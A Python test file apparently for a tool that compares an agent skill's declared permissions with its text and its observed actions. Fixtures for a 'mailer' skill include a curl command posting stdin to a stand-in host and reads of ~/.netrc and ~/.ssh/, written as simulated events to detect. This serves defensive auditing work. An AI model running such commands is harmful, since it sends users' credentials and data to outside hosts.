"""What a skill declares, what its text shows and what it did, side by side."""

from __future__ import annotations

from metier.run.observe.model import Seen
from metier.run.observe.plan import ReadSkill
from metier.run.observe.three_views import compare_views, told_views

HEAD = b"---\nname: mailer\ndescription: Sends mail.\nallowed-tools: Bash\n---\n\nRun it.\n"


def test_the_three_are_told_in_plain_words() -> None:
    skill = ReadSkill("mailer", "skill-md", "SKILL.md", {"SKILL.md": HEAD})
    events = [
        Seen("exec", "curl -d @- https://x.example", "scripts/a.sh"),
        Seen("exec", "curl https://y.example", "scripts/a.sh"),
        Seen("connect", "x.example:443", "scripts/a.sh"),
        Seen("read", "~/.netrc", "scripts/a.sh"),
        Seen("lookup", "x.example", "scripts/a.sh"),
    ]

    views = compare_views(skill, (), events)

    assert any("Bash" in one for one in views.declared)
    assert () == views.seen
    assert ("contacted x.example:443", "read ~/.netrc", "ran curl") == views.done


def test_of_many_deeds_of_one_kind_a_few_are_named_and_the_rest_counted() -> None:
    skill = ReadSkill("mailer", "skill-md", "SKILL.md", {})
    events = [Seen("write", f"file-{number}", "scripts/a.sh") for number in range(9)]

    views = compare_views(skill, (), events)

    assert ("wrote file-0, file-1, file-2, file-3 and 5 more",) == views.done


def test_variables_and_hosts_that_the_instructions_name_are_declared() -> None:
    text = b"---\nname: mailer\ndescription: Sends mail.\n---\n\nSet MAIL_API_KEY. It posts to https://api.mail.example/v1 and mx.post.io.\n"
    skill = ReadSkill("mailer", "skill-md", "SKILL.md", {"SKILL.md": text})

    views = compare_views(skill, (), ())

    assert ("variable MAIL_API_KEY", "host api.mail.example", "host mx.post.io") == views.declared


def test_a_skill_that_declares_nothing_is_told_what_that_means() -> None:
    text = b"---\nname: words\ndescription: Counts words in notes.md.\n---\n\nRun `python scripts/count.py`.\n"
    skill = ReadSkill("words", "skill-md", "SKILL.md", {"SKILL.md": text})

    rows = told_views(*compare_views(skill, (), ()))

    assert [
        ("declared", "nothing: it asks for no tool, variable or program, and names no host"),
        ("in its text", "nothing that stands out"),
        ("did", "nothing worth a note"),
    ] == rows


def test_folders_that_every_program_lists_are_no_deeds() -> None:
    skill = ReadSkill("mailer", "skill-md", "SKILL.md", {})
    listed = ("~/.local/share/packages/", "~/atlas-web/", "~/.ssh/")

    views = compare_views(skill, (), [Seen("read", one, "scripts/a.py") for one in listed])

    assert ("read ~/.ssh/",) == views.done
